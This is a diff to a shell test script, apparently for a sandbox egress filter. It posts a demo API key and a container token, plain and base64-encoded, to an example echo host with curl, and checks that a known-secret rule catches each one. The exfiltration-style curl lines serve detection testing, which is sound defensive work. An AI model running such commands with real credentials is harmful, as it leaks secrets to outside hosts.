@@ -97,7 +97,8 @@ probed() { grep -F "$1 " "$OUT/probe"; }
 	local token id
 	token=$(docker exec bot-bottle-bundle-demo cat /run/bottle/token)
 	for secret in "$DEMO_API_KEY" "$token" "$(printf '{"s":"%s"}' "$token" | base64 -w 0)"; do
-		run guest -- curl -sS --max-time 120 -d "see $secret" https://echo.example.net/known
+		# By standard input: no command line has ever had one.
+		run bb-vm exec demo -i -- curl -sS --max-time 120 --data-binary @- https://echo.example.net/known <<<"see $secret"
 		assert_output --partial 'rule known-secret matched'
 	done
 	set -- curl -sS --max-time 120 -d "see ghp_$(sha256sum <<<waive | cut -c 1-36)" https://echo.example.net/waived
